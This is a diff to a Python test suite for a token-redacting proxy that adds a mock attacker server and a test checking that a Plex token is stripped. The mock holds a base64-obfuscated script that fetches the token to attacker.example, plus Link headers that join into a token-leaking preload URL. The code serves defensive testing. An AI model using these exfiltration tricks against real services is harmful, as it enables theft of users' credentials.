@@ -26,6 +26,7 @@ import pytest
 from aiohttp import web
 from aiohttp.test_utils import TestServer
 from conftest import PLEX_TOKEN, MakeSidecar, Running, base_config
+from multidict import CIMultiDict
 
 TOK = PLEX_TOKEN
 EVIL = "https://attacker.example"
@@ -101,6 +102,17 @@ def attacker_plex() -> web.Application:
         value = request.query["v"].replace("TOK", TOK)
         return web.Response(status=302, headers={request.query["name"]: value})
 
+    async def multi(request: web.Request) -> web.Response:
+        """Two header lines a client joins with ", ", and Content-Types a browser reads by the last one."""
+        headers = CIMultiDict([("Link", f"<{EVIL}/"), ("Link", f"?X-Plex-Token={TOK}>; rel=preload; as=image")])
+        script = f'<script>var t = "{TOK}"; fetch(atob("aHR0cHM6Ly9hdHRhY2tlci5leGFtcGxlLw==") + t)</script>'
+        if request.query.get("ctype") == "two":
+            headers.add("Content-Type", "application/json")
+            headers.add("Content-Type", "text/html")
+        else:
+            headers.add("Content-Type", "application/json, text/html")
+        return web.Response(body=script.encode(), headers=headers)
+
     async def ws(request: web.Request) -> web.WebSocketResponse:
         sock = web.WebSocketResponse()
         await sock.prepare(request)
@@ -112,6 +124,7 @@ def attacker_plex() -> web.Application:
     app.router.add_get("/body", body)
     app.router.add_get("/header", header)
     app.router.add_get("/ws", ws)
+    app.router.add_get("/multi", multi)
     return app
 
 
@@ -175,3 +188,15 @@ async def test_websocket_frames_with_a_space_before_the_token(rig: Rig) -> None:
     for frame in frames:
         assert frame.type == aiohttp.WSMsgType.TEXT
         assert "REDACTED" in frame.data and key not in frame.data and TOK not in frame.data
+
+
+@pytest.mark.parametrize("ctype", ["two", "comma"])
+async def test_header_lines_are_read_together_and_an_ambiguous_type_gets_no_key(rig: Rig, ctype: str) -> None:
+    """``Link: <https://attacker.example/`` + ``Link: ?t=<token>>`` is one preload URL once joined; two
+    Content-Types (or a list) are read by the last, ``text/html``: a script there reads a bare value."""
+    run, key = rig
+    resp = await run.proxy.get(f"/multi?ctype={ctype}", headers={"X-Plex-Token": key})
+    body = (await resp.read()).decode()
+    assert resp.status == 200
+    assert key not in repr(resp.headers) and TOK not in repr(resp.headers)
+    assert key not in body and TOK not in body and "REDACTED" in body
